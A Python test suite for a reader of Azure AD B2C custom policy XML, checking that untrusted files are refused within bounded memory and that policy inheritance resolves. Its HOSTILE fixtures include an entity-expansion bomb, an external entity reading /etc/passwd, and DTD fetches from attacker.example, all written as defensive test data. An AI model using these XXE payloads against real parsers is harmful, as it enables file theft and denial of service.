"""Files from strangers: read in bounded time and memory, or refused with a file, a line and a reason."""

import tracemalloc
from pathlib import Path

import pytest

from b2c.policies.elements import NAMESPACE
from b2c.policies.reading import PolicyError, read, read_folder

FILES = Path(__file__).resolve().parents[2] / "sandbox" / "b2c" / "files"


def policy(policy_id="B2C_1A_One", base="", body="", head=""):
    base = f"<BasePolicy><TenantId>t.example</TenantId><PolicyId>{base}</PolicyId></BasePolicy>" if base else ""
    text = (
        f'{head}<TrustFrameworkPolicy xmlns="{NAMESPACE}" PolicySchemaVersion="0.3.0.0" TenantId="t.example"\n'
        f' PolicyId="{policy_id}" PublicPolicyUri="http://t.example/{policy_id}">{base}\n{body}</TrustFrameworkPolicy>'
    )
    return text.encode()


BOMB = "<!DOCTYPE b [" + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12)) + "]>"
HOSTILE = {
    "entity bomb": policy(head=BOMB, body="<BuildingBlocks>&e11;</BuildingBlocks>"),
    "external entity": policy(head='<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>', body="&x;"),
    "external type": policy(head='<!DOCTYPE p SYSTEM "http://attacker.example/p.dtd">'),
    "parameter entity": policy(head='<!DOCTYPE p [<!ENTITY % x SYSTEM "http://attacker.example/x"> %x;]>'),
    "50 MB": policy(body="<BuildingBlocks>" + " " * 50_000_000 + "</BuildingBlocks>"),
    "deep": policy(body="<BuildingBlocks>" * 50_000),
    "deep, elsewhere": policy(body='<x xmlns="urn:other">' * 40_000),
    "many": policy(body="<ClaimType/>" * 80_000),
    "no XML": b"PK\x03\x04 a zip file",
    "nothing": b"",
    "cut off": policy()[:-10],
    "bad bytes": policy(body="\xff\xfe").replace("\xff".encode(), b"\xff"),
    "encoding of nobody": policy(head='<?xml version="1.0" encoding="klingon"?>'),
    "encoding that is none": policy(head='<?xml version="1.0" encoding="base64"?>'),
    "encoding that lies": policy(head='<?xml version="1.0" encoding="utf-16"?>'),
    "of another kind": b"<html/>",
    "of another namespace": policy().replace(NAMESPACE.encode(), b"urn:other"),
    "undeclared entity": policy(body="&nobody;"),
    "without an id": policy().replace(b"PolicyId=", b"Id="),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_with_its_name_and_why(name):
    content = HOSTILE[name]
    tracemalloc.start()

    try:
        with pytest.raises(PolicyError) as refused:
            read({"theirs.xml": content})
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert refused.value.file == "theirs.xml"
    assert refused.value.why
    assert peak < 48 * 1024 * 1024


@pytest.mark.parametrize("name", ["external entity", "deep", "bad bytes", "encoding of nobody"])
def test_the_line_is_named(name):
    with pytest.raises(PolicyError) as refused:
        read({"theirs.xml": HOSTILE[name]})

    assert refused.value.line >= 1


def test_policies_that_inherit_in_a_circle_are_refused():
    files = {f"{one}.xml": policy(f"B2C_1A_{one}", f"B2C_1A_{base}") for one, base in ("ab", "bc", "ca")}

    with pytest.raises(PolicyError, match="based on itself") as refused:
        read(files)

    assert refused.value.line == 2
    with pytest.raises(PolicyError, match="based on itself"):
        read({"own.xml": policy("B2C_1A_own", "b2c_1a_OWN")})


def test_more_levels_than_b2c_takes_are_refused():
    def files(most):
        return {f"{n:02}.xml": policy(f"B2C_1A_{n}", f"B2C_1A_{n - 1}" if n else "") for n in range(most)}

    assert len(read(files(10)).chain("B2C_1A_9")) == 10
    with pytest.raises(PolicyError, match="more than 10 levels"):
        read(files(11))


def test_too_many_files_are_refused_before_one_is_opened(tmp_path):
    for number in range(260):
        (tmp_path / f"{number}.xml").write_bytes(b"not read")

    with pytest.raises(PolicyError, match="More than 250 files"):
        read_folder(tmp_path)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "iso-8859-1"])
def test_usual_encodings_are_read(encoding):
    named = encoding.replace("-sig", "")
    text = policy("B2C_1A_Grüße", head=f'<?xml version="1.0" encoding="{named}"?>\n').decode()

    assert read({"one.xml": text.encode(encoding)}).get("b2c_1a_grüße").id == "B2C_1A_Grüße"


def test_a_policy_means_what_it_inherits_with_its_own_on_top():
    policies = read_folder(FILES)

    meant = policies.effective("b2c_1a_SIGNUP_signin")

    assert [one.id for one in policies.chain("B2C_1A_signup_signin")] == [
        "B2C_1A_TrustFrameworkBase",
        "B2C_1A_TrustFrameworkExtensions",
        "B2C_1A_signup_signin",
    ]
    read_account = meant.profile("aad-userreadusingobjectid-checkrefreshtokendate")
    claims = [one.get("ClaimTypeReferenceId") for one in read_account.under("OutputClaims", "OutputClaim")]
    assert {"refreshTokensValidFromDateTime", "displayName"} <= set(claims)  # its own, and what it includes
    assert read_account.child("Protocol") is not None  # from two levels further down
    assert read_account.file == "TrustFrameworkBase.xml"
    assert read_account.line > 100
